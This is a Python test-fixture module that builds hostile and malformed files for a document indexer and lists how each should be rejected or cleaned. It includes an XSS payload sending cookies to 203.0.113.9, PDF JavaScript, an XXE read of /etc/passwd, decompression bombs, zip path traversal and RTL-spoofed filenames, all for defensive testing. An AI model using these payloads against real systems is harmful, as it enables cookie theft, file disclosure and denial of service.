"""A corpus of hostile and malformed files, generated in code, with what Field Guide must do.

Each `Hostile` is one kind of bad input: its bytes, the file name it is saved under, and the
expected outcome — either a per-file problem whose message matches `problem`, or (for benign
oddities such as a BOM or right-to-left override characters) successful indexing where the
cleaned text contains `marker` and none of the characters in `absent`.
"""

from __future__ import annotations

import io
import os
import random
import re
import shutil
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from builders import _pdf_bytes
from docx import Document
from pypdf import PdfReader, PdfWriter

from fieldguide.problems import TYPE_NAMES

MB = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    """One kind of bad input and the behaviour Field Guide owes it."""

    filename: str
    make: Callable[[], bytes]
    problem: str | None = None  # regex the per-file message must match (search, ignorecase)
    marker: str | None = None  # benign: a word the cleaned, indexed text must contain
    absent: tuple[str, ...] = ()  # benign: characters cleaning must remove
    keep: tuple[str, ...] = ()  # benign: text that must survive cleaning exactly
    ocr: bool = False  # its outcome needs Tesseract (left out where it is not installed)

    @property
    def benign(self) -> bool:
        return self.problem is None

    def write(self, folder: Path) -> Path:
        path = Path(folder) / self.filename
        path.write_bytes(self.make())
        return path


# --------------------------------------------------------------------------- raw PDF writing


def _stream(body: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d%s >>\nstream\n" % (len(body), extra) + body + b"\nendstream"


def _text_ops(text: str) -> bytes:
    return b"BT /F1 12 Tf 72 720 Td (" + text.encode("latin-1") + b") Tj ET"


def raw_pdf(
    objects: list[bytes] | None = None,
    *,
    text: str = "The Harbor Clinic offers free testing.",
    xref: bool = True,
    shift: int = 0,
    startxref: int | None = None,
    trailer_extra: bytes = b"",
) -> bytes:
    """A classic one-page PDF built by hand so its structure can be broken on purpose.

    Args:
        objects: object bodies 1..n (default: catalog, pages, page, content, font).
        text: the page's text when `objects` is None.
        xref: write a cross-reference table (False: no table and no startxref).
        shift: add this to every xref offset (breaks them).
        startxref: override the startxref value.
        trailer_extra: extra trailer dictionary entries.
    """
    if objects is None:
        objects = [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            _stream(_text_ops(text)),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    if not xref:
        return bytes(out + b"%%EOF\n")
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % (offset + shift)
    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\n" % (len(objects) + 1, trailer_extra)
    out += b"startxref\n%d\n%%%%EOF\n" % (table if startxref is None else startxref)
    return bytes(out)


def _page_objects(contents: bytes, page_extra: bytes = b"") -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >>" + page_extra + b" >>",
        contents,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def _encrypted(password: str, algorithm: str, owner: str | None = None) -> bytes:
    pages = (("Is this locked?", "The zqopenlock clinic is open on Sundays."),)
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_pdf_bytes(pages))))
    writer.encrypt(user_password=password, owner_password=owner, algorithm=algorithm)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _flate_bomb() -> bytes:
    # 100 MB of zeros deflates to 100 kB; pypdf refuses to inflate past 75 MB
    squeezer = zlib.compressobj(9)
    block = bytes(MB)
    packed = b"".join(squeezer.compress(block) for _ in range(100)) + squeezer.flush()
    return raw_pdf(_page_objects(_stream(packed, b" /Filter /FlateDecode")))


def _nested_array_pdf(depth: int = 5000) -> bytes:
    # pypdf parses arrays recursively: thousands of '[' exhaust Python's recursion limit
    return raw_pdf(_page_objects(_stream(_text_ops("zqnestarray")), b" /Junk " + b"[" * depth))


def _nested_content_array_pdf(depth: int = 5000) -> bytes:
    # inside a content stream the RecursionError comes out of text extraction bare
    body = _text_ops("zqnestarray") + b" " + b"[" * depth
    return raw_pdf(_page_objects(_stream(body)))


def _nested_trailer_dict_pdf(depth: int = 5000) -> bytes:
    return raw_pdf(text="nested", trailer_extra=b" /Junk " + b"<< /A " * depth)


def _nested_content_dict_pdf(depth: int = 5000) -> bytes:
    # pypdf skips an unparsable inline dictionary in a content stream and keeps the text
    body = _text_ops("The zqnestdict clinic.") + b" " + b"<< /A " * depth
    return raw_pdf(_page_objects(_stream(body)))


def _page_tree_loop() -> bytes:
    # the Pages node lists itself as its own kid
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            _stream(_text_ops("loop")),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def _reference_cycle() -> bytes:
    # the page's contents reference themselves: 4 0 R -> [4 0 R]
    return raw_pdf(_page_objects(b"[4 0 R]"))


def _blank_page_pdf() -> bytes:
    return raw_pdf(_page_objects(_stream(b"")))


def _scanned_pdf(words: bool = True) -> bytes:
    from fpdf import FPDF
    from PIL import Image, ImageDraw

    image = Image.new("RGB", (400, 500), "white")
    draw = ImageDraw.Draw(image)
    if words:
        draw.text((40, 40), "Scanned notice: clinic open Mondays", fill="black")
    else:  # a photo of nothing: shapes, no words
        draw.ellipse((80, 120, 320, 360), fill="lightgray", outline="black", width=4)
        draw.rectangle((30, 30, 370, 470), outline="black", width=6)
    pdf = FPDF()
    pdf.add_page()
    pdf.image(image, x=10, y=10, w=190)
    return bytes(pdf.output())


def _image(kind: str, size: tuple[int, int] = (300, 200), words: str = "") -> bytes:
    from PIL import Image, ImageDraw

    image = Image.new("RGB", size, "white")
    if words:
        ImageDraw.Draw(image).text((10, 10), words, fill="black")
    out = io.BytesIO()
    image.save(out, kind)
    return out.getvalue()


def _png_claiming_size(width: int, height: int) -> bytes:
    """A PNG whose header claims `width` x `height` pixels (a decompression bomb's header)."""

    def chunk(tag: bytes, data: bytes) -> bytes:
        body = tag + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024)
    chunks = chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def _many_pages_claimed() -> bytes:
    objects = _page_objects(_stream(_text_ops("The zqcount page says hello.")))
    objects[1] = b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>"
    return raw_pdf(objects)


def _javascript_pdf() -> bytes:
    objects = _page_objects(_stream(_text_ops("The zqscript shelter opens at dusk.")))
    objects[0] = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript "
        b"/JS (app.launchURL\\('http://203.0.113.9/'\\);) >> >>"
    )
    return raw_pdf(objects)


# --------------------------------------------------------------------------- DOCX and zips


def _docx(paragraphs: list[str]) -> bytes:
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _rezip(source: bytes, replace: dict[str, bytes | None]) -> bytes:
    """A copy of a zip with some members replaced (None drops the member)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as old, zipfile.ZipFile(out, "w") as new:
        for item in old.infolist():
            if item.filename in replace:
                continue
            new.writestr(item, old.read(item.filename), zipfile.ZIP_DEFLATED)
        for name, data in replace.items():
            if data is not None:
                new.writestr(name, data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _docx_zip_bomb() -> bytes:
    """A real .docx whose document.xml inflates to 300 MB of empty paragraphs."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_docx(["zqbomb"]))) as old, zipfile.ZipFile(out, "w") as new:
        for item in old.infolist():
            if item.filename != "word/document.xml":
                new.writestr(item, old.read(item.filename), zipfile.ZIP_DEFLATED)
        info = zipfile.ZipInfo("word/document.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        with new.open(info, "w", force_zip64=True) as member:
            member.write(f"<?xml version='1.0'?><w:document {_W}><w:body>".encode())
            block = b"<w:p/>" * (MB // 6)
            for _ in range(300):
                member.write(block)
            member.write(b"</w:body></w:document>")
    return out.getvalue()


def _docx_lying_sizes() -> bytes:
    """A .docx whose document.xml inflates to 64 MB but whose headers claim 2 kB."""
    xml = f"<?xml version='1.0'?><w:document {_W}><w:body>".encode() + b"<w:p/>" * (64 * MB // 6)
    data = bytearray(_rezip(_docx(["x"]), {"word/document.xml": xml}))
    name = b"word/document.xml"
    local = data.index(b"PK\x03\x04")
    while data[local + 30 : local + 30 + len(name)] != name:
        local = data.index(b"PK\x03\x04", local + 4)
    data[local + 22 : local + 26] = struct.pack("<I", 2048)
    central = data.index(b"PK\x01\x02")
    while data[central + 46 : central + 46 + len(name)] != name:
        central = data.index(b"PK\x01\x02", central + 4)
    data[central + 24 : central + 28] = struct.pack("<I", 2048)
    return bytes(data)


def _docx_bad_xml() -> bytes:
    return _rezip(_docx(["x"]), {"word/document.xml": b"<w:document><w:body><w:p>unclosed"})


def _docx_billion_laughs() -> bytes:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    xml = (
        f"<?xml version='1.0'?><!DOCTYPE w:document [{entities}]>"
        f"<w:document {_W}><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
    )
    return _rezip(_docx(["x"]), {"word/document.xml": xml.encode()})


def _docx_external_entity() -> bytes:
    xml = (
        "<?xml version='1.0'?><!DOCTYPE w:document [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
        f"<w:document {_W}><w:body><w:p><w:r><w:t>zqentity &x;</w:t></w:r></w:p>"
        "</w:body></w:document>"
    )
    return _rezip(_docx(["x"]), {"word/document.xml": xml.encode()})


def _empty_zip() -> bytes:
    out = io.BytesIO()
    zipfile.ZipFile(out, "w").close()
    return out.getvalue()


def _zip_traversal() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("../../../../tmp/zq-escaped.txt", "escaped")
        archive.writestr("/etc/zq-absolute.txt", "absolute")
    return out.getvalue()


def _ole_doc() -> bytes:
    # the signature of an old .doc / a password-protected Office file, renamed .docx
    return bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504) + os.urandom(1024)


# --------------------------------------------------------------------------- text and HTML


def _fake_elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(2000)


def _fake_exe() -> bytes:
    return (
        b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode.\r\r\n$" + bytes(500)
    )


def _random_bytes(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


def _deep_html(depth: int = 2_000) -> bytes:
    # parsing time grows with the square of the depth: 100,000 deep would parse for minutes and
    # only wait out the sandbox timeout, which test_a_hanging_file_is_cut_off_... proves in 1 s
    return b"<div>" * depth + b"<p>The zqdeep clinic is open.</p>" + b"</div>" * depth


def _big_text(size: int) -> bytes:
    line = b"the harbor clinic offers free testing "
    return (line * (size // len(line) + 1))[:size]


_SENTENCE = "The {} clinic offers free testing on Tuesdays."


def _plain(marker: str, encoding: str = "utf-8", prefix: bytes = b"") -> Callable[[], bytes]:
    return lambda: (
        prefix + (f"Where can I get tested?\n\n{_SENTENCE.format(marker)}\n".encode(encoding))
    )


_RLO = "\u202e"
_PDF_NOT_REAL = "this is not really a PDF"
_DAMAGED_PDF = "the PDF is damaged and cannot be read"
_DAMAGED_DOCX = "this Word file is damaged or not a .docx"
_LOCKED = "the PDF is password-protected"
_NO_TEXT = "no readable text was found"
_EMPTY = "the file is empty"
_NOT_TEXT = "this is not a text file"
_UNSUPPORTED = "is not supported \\(use " + re.escape(TYPE_NAMES) + "\\)"
_OCR = "scanned image with no text, and text recognition \\(OCR\\) found no words"
_NO_WORDS = "no words could be recognised in this image"
_DAMAGED_IMAGE = "this image is damaged or not really an image"
_IMAGE_BOMB = "needs too much memory to read"
_DOCX_BOMB = "unpacks to \\d+ MB, more than can be read safely \\(it may be a compression bomb\\)"
_PDF_BOMB = "more data than can be unpacked safely \\(it may be a compression bomb\\)"

_GOOD_PDF = _pdf_bytes()

_ALL_KINDS: list[Hostile] = [
    # ---- PDFs that cannot be read
    Hostile("truncated-half.pdf", lambda: _GOOD_PDF[: len(_GOOD_PDF) // 2], _DAMAGED_PDF),
    Hostile("truncated-header.pdf", lambda: b"%PDF-1.7\n", _DAMAGED_PDF),
    Hostile("missing-xref.pdf", lambda: raw_pdf(xref=False), _DAMAGED_PDF),
    Hostile("garbage-body.pdf", lambda: b"%PDF-1.4\n" + _random_bytes(1, 4000), _DAMAGED_PDF),
    Hostile("encrypted-rc4.pdf", lambda: _encrypted("secret", "RC4-128"), _LOCKED),
    Hostile("encrypted-aes128.pdf", lambda: _encrypted("secret", "AES-128"), _LOCKED),
    Hostile("encrypted-aes256.pdf", lambda: _encrypted("secret", "AES-256"), _LOCKED),
    Hostile("flate-bomb.pdf", _flate_bomb, _PDF_BOMB),
    Hostile("nested-dicts-in-trailer.pdf", _nested_trailer_dict_pdf, _DAMAGED_PDF),
    Hostile("page-tree-loop.pdf", _page_tree_loop, _DAMAGED_PDF),
    Hostile("contents-cycle.pdf", _reference_cycle, _OCR, ocr=True),
    Hostile("scanned-no-words.pdf", lambda: _scanned_pdf(words=False), _OCR, ocr=True),
    Hostile("blank-page.pdf", _blank_page_pdf, _OCR, ocr=True),
    Hostile(
        "html-renamed.pdf", lambda: b"<!DOCTYPE html><html><body>hi</body></html>", _PDF_NOT_REAL
    ),
    Hostile("exe-renamed.pdf", _fake_exe, _PDF_NOT_REAL),
    Hostile("zip-renamed.pdf", lambda: _docx(["x"]), _PDF_NOT_REAL),
    Hostile("junk-before-header.pdf", lambda: b"\x00" * 2048 + _GOOD_PDF, _PDF_NOT_REAL),
    Hostile("zero-bytes.pdf", lambda: b"", _EMPTY),
    Hostile("line\nbreak.pdf", lambda: b"<html>not a pdf</html>", _PDF_NOT_REAL),
    # ---- images that cannot be read (OCR)
    Hostile("blank-photo.png", lambda: _image("PNG"), _NO_WORDS, ocr=True),
    Hostile("truncated.jpg", lambda: _image("JPEG", (600, 400))[:300], _DAMAGED_IMAGE, ocr=True),
    Hostile("html-renamed.png", lambda: b"<!DOCTYPE html>hi", _DAMAGED_IMAGE, ocr=True),
    Hostile("zero-bytes.webp", lambda: b"", _EMPTY),
    Hostile("pixel-bomb.png", lambda: _png_claiming_size(100_000, 100_000), _IMAGE_BOMB, ocr=True),
    # ---- PDFs that are odd but readable
    Hostile("scanned-notice.pdf", _scanned_pdf, marker="Mondays", ocr=True),
    # pypdf runs out of recursion on these; PDFium, the second reader, reads them
    Hostile("nested-arrays.pdf", _nested_array_pdf, marker="zqnestarray"),
    Hostile("nested-arrays-in-content.pdf", _nested_content_array_pdf, marker="zqnestarray"),
    Hostile("broken-xref-offsets.pdf", lambda: raw_pdf(shift=7, text="zqshift"), marker="zqshift"),
    Hostile(
        "startxref-past-end.pdf", lambda: raw_pdf(startxref=10**9, text="zqpast"), marker="zqpast"
    ),
    Hostile(
        "encrypted-empty-password.pdf",
        lambda: _encrypted("", "AES-256", owner="owner"),
        marker="zqopenlock",
    ),
    Hostile("count-lies.pdf", _many_pages_claimed, marker="zqcount"),
    Hostile("nested-dicts-in-content.pdf", _nested_content_dict_pdf, marker="zqnestdict"),
    Hostile("javascript.pdf", _javascript_pdf, marker="zqscript", absent=("launchURL",)),
    Hostile("UPPERCASE.PDF", lambda: raw_pdf(text="The zqupper clinic."), marker="zqupper"),
    # ---- DOCX files that cannot be read
    Hostile("not-a-zip.docx", lambda: b"This is plain text, not a zip archive.\n", _DAMAGED_DOCX),
    Hostile("truncated.docx", lambda: _docx(["zq"])[:900], _DAMAGED_DOCX),
    Hostile("empty-zip.docx", _empty_zip, _DAMAGED_DOCX),
    Hostile("zip-path-traversal.docx", _zip_traversal, _DAMAGED_DOCX),
    Hostile(
        "missing-document-xml.docx",
        lambda: _rezip(_docx(["x"]), {"word/document.xml": None}),
        _DAMAGED_DOCX,
    ),
    Hostile("bad-xml.docx", _docx_bad_xml, _DAMAGED_DOCX),
    Hostile("billion-laughs.docx", _docx_billion_laughs, _DAMAGED_DOCX),
    Hostile("zip-bomb.docx", _docx_zip_bomb, _DOCX_BOMB),
    Hostile("zip-bomb-lying-sizes.docx", _docx_lying_sizes, _DAMAGED_DOCX),
    Hostile("old-word-renamed.docx", _ole_doc, _DAMAGED_DOCX),
    Hostile("no-text.docx", lambda: _docx([]), _NO_TEXT),
    Hostile("zero-bytes.docx", lambda: b"", _EMPTY),
    # ---- DOCX that is odd but readable
    Hostile("external-entity.docx", _docx_external_entity, marker="zqentity", absent=("root:",)),
    # ---- text and HTML that cannot be used
    Hostile("zero-bytes.txt", lambda: b"", _EMPTY),
    Hostile("whitespace-only.txt", lambda: b" \n\t\r\n" * 1000, _EMPTY),
    Hostile("nul-only.txt", lambda: bytes(4096), _NOT_TEXT),
    Hostile("controls-only.md", lambda: bytes(range(1, 9)) * 100 + b"\x7f\x1b", _NOT_TEXT),
    Hostile("invisible-only.txt", lambda: ("\u200b\u202e\ufeff\u2066" * 500).encode(), _NO_TEXT),
    Hostile(
        "fifty-megabytes-one-line.txt",
        lambda: _big_text(50 * MB),
        "the file is 50 MB, over the 25 MB limit",
    ),
    Hostile(
        "scripts-and-styles-only.html",
        lambda: (
            b"<html><head><style>p{}</style></head><body><script>alert(1)</script><noscript>x</noscript></body></html>"
        ),
        _NO_TEXT,
    ),
    Hostile(
        "comments-only.html",
        lambda: b"<html><body><!-- nothing to see here --></body></html>",
        _NO_TEXT,
    ),
    Hostile("old-word.doc", _ole_doc, _UNSUPPORTED),
    Hostile("no-extension", lambda: b"The zqnoext clinic.", _UNSUPPORTED),
    Hostile("program.exe", _fake_exe, _UNSUPPORTED),
    Hostile(f"invoice{_RLO}fdp.exe", _fake_exe, _UNSUPPORTED),
    # ---- benign oddities: indexed, with clean text
    Hostile(
        "bom-utf8.txt", _plain("zqbom", prefix=b"\xef\xbb\xbf"), marker="zqbom", absent=("\ufeff",)
    ),
    Hostile(
        "bom-utf16le.txt", _plain("zqutfle", "utf-16"), marker="zqutfle", absent=("\ufeff", "\x00")
    ),
    Hostile(
        "bom-utf16be.txt",
        lambda: b"\xfe\xff" + _plain("zqutfbe", "utf-16-be")(),
        marker="zqutfbe",
        absent=("\ufeff", "\x00"),
    ),
    Hostile("utf16-no-bom.txt", _plain("zqnobom", "utf-16-le"), marker="zqnobom", absent=("\x00",)),
    Hostile(
        "invalid-utf8-windows-1252.txt",
        lambda: b"The zqlatin caf\xe9 \x93open\x94 \x80 5.",
        marker="zqlatin",
        keep=("caf\u00e9", '"open"', "\u20ac 5"),
    ),
    Hostile(
        "utf8-with-stray-bytes.txt",
        lambda: (
            "The zqstray caf\u00e9 in Pe\u00f1asco, na\u00efve r\u00e9sum\u00e9 ".encode()
            + b"\xff\xfe help."
        ),
        marker="zqstray",
        keep=("caf\u00e9 in Pe\u00f1asco", "r\u00e9sum\u00e9"),
    ),
    Hostile(
        "nul-bytes.txt",
        lambda: b"The zqnul\x00 clinic\x00\x00 is open.\x00",
        marker="zqnul",
        absent=("\x00",),
    ),
    Hostile(
        "rtl-override.txt",
        lambda: f"Call {_RLO}0003-010-555 zqrtl\u202c now, \u2066isolate\u2069.".encode(),
        marker="zqrtl",
        absent=(_RLO, "\u202c", "\u2066", "\u2069"),
    ),
    Hostile(
        "zero-width.md",
        lambda: "# Help\n\nzq\u200bwidth\u200d clinic \u2060open.".encode(),
        marker="zqwidth",
        absent=("\u200b", "\u200d", "\u2060"),
    ),
    Hostile(
        "ansi-escapes.txt",
        lambda: b"\x1b[31m zqansi \x1b[0m clinic \x07\x08 open",
        marker="zqansi",
        absent=("\x1b", "\x07", "\x08", "[31m", "[0m"),
    ),
    Hostile(
        "crlf-and-cr.txt",
        lambda: b"Where?\r\n\r\nThe zqcrlf clinic.\rIt is open.\r\n",
        marker="zqcrlf",
        absent=("\r",),
    ),
    Hostile(
        "combining-marks.txt",
        lambda: ("zqzalgo " + "e\u0301\u0302\u0303" * 2000 + " open").encode(),
        marker="zqzalgo",
    ),
    Hostile(
        "emoji-astral.md",
        lambda: "# Clinic \U0001f3e5\n\nThe zqemoji clinic \U0001f600 is open \U00010348.".encode(),
        marker="zqemoji",
        keep=("\U0001f600",),
    ),
    Hostile(
        "long-single-line.txt", lambda: b"zqlongline " + _big_text(16_000), marker="zqlongline"
    ),
    Hostile("one-huge-word.txt", lambda: b"zqhugeword " + b"x" * 256_000, marker="zqhugeword"),
    Hostile("random-binary.txt", lambda: b"zqbinary " + _random_bytes(2, 20_000), _NOT_TEXT),
    Hostile("elf-renamed.txt", lambda: b"zqelf " + _fake_elf(), _NOT_TEXT),
    Hostile("zip-renamed.md", _zip_traversal, _NOT_TEXT),
    Hostile("html-nested-2000-deep.html", _deep_html, marker="zqdeep"),
    Hostile(
        "html-malformed.html",
        lambda: b"<html><body><p>The zqmalformed clinic<div><b>open<i></p></html",
        marker="zqmalformed",
    ),
    Hostile(
        "html-wrong-charset.html",
        lambda: '<meta charset="shift_jis"><p>The zqcharset caf\u00e9 is open.</p>'.encode(),
        marker="zqcharset",
        keep=("caf\u00e9",),
    ),
    Hostile(
        "html-utf16.htm",
        lambda: "<p>The zqhtmlsixteen clinic.</p>".encode("utf-16"),
        marker="zqhtmlsixteen",
    ),
    Hostile(
        "html-with-script-payload.html",
        lambda: (
            b"<p>The zqxss clinic.</p><img src=x onerror=alert(1)>"
            b"<script>document.location='http://203.0.113.9/'+document.cookie</script>"
        ),
        marker="zqxss",
        absent=("document.cookie", "<script", "onerror"),
    ),
    Hostile(
        "caf\u00e9 \u2615 r\u00e9sum\u00e9.md", _plain("zqunicodename"), marker="zqunicodename"
    ),
    Hostile(f"invoice{_RLO}txt.md", _plain("zqrtlname"), marker="zqrtlname"),
]
# without Tesseract, files that need OCR get "install Tesseract" instead (tests/test_ocr.py)
KINDS = [k for k in _ALL_KINDS if k.ocr is False or shutil.which("tesseract")]


def write_corpus(folder: Path, kinds: list[Hostile] = KINDS) -> dict[str, Path]:
    """Write every kind into `folder`; returns {filename: path}."""
    folder.mkdir(parents=True, exist_ok=True)
    return {kind.filename: kind.write(folder) for kind in kinds}
